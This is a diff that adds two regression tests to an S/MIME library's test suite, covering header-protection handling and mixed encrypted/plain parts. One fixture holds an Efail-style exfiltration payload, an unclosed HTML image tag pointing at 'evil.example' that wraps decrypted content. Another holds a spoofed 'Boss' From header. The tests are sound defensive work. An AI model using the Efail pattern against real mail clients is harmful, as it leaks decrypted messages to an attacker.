@@ -351,3 +351,27 @@ def test_decrypt_keeps_a_broken_signed_entity_for_verify(bob: Identity) -> None:
     result = smimekit.decrypt(_encrypted(bob, broken), bob.key, bob.cert)
     assert result.header_protection is None
     assert result.content.endswith(b"only one part\r\n--x--\r\n")
+
+
+def test_hp_on_a_part_below_the_payload_root_is_not_header_protection(
+        alice: Identity, trust: list) -> None:
+    """Only the Cryptographic Payload's root declares it (RFC 9788 2.1): a part further down
+    with hp= and header fields of its own changes nothing."""
+    content = (b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n'
+               b"Content-Type: text/plain\r\n\r\nhello\r\n--m\r\n"
+               b'From: Boss <boss@example.org>\r\nContent-Type: text/plain; hp="clear"\r\n\r\n'
+               b"I am the boss\r\n--m--\r\n")
+    signed = _signed(alice, PROTECTED.encode() + content, OUTER)
+    result = smimekit.verify(signed, trust=trust)
+    assert result.verdict.valid and result.verdict.header_protection is None
+    assert result.verdict.from_address == ALICE
+
+
+def test_an_encrypted_part_next_to_plain_ones_gets_no_header_protection(bob: Identity) -> None:
+    """Efail: the part is shown alone; its hp= and header fields are not the message's."""
+    part = _encrypted(bob, _payload("cipher"), "")
+    mixed = (OUTER.encode() + b'Content-Type: multipart/mixed; boundary="e"\r\n\r\n--e\r\n'
+             b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/\r\n--e\r\n"
+             + part + b"\r\n--e--\r\n")
+    result = smimekit.decrypt(mixed, bob.key, bob.cert)
+    assert result.partial and result.header_protection is None
